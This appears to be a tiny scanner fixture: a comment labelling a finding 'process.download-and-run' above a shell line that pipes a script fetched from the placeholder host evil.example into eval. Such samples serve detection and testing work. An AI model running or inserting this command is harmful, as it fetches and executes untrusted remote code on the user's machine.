# nacre: found process.download-and-run
eval "$(curl -s https://evil.example/x)"
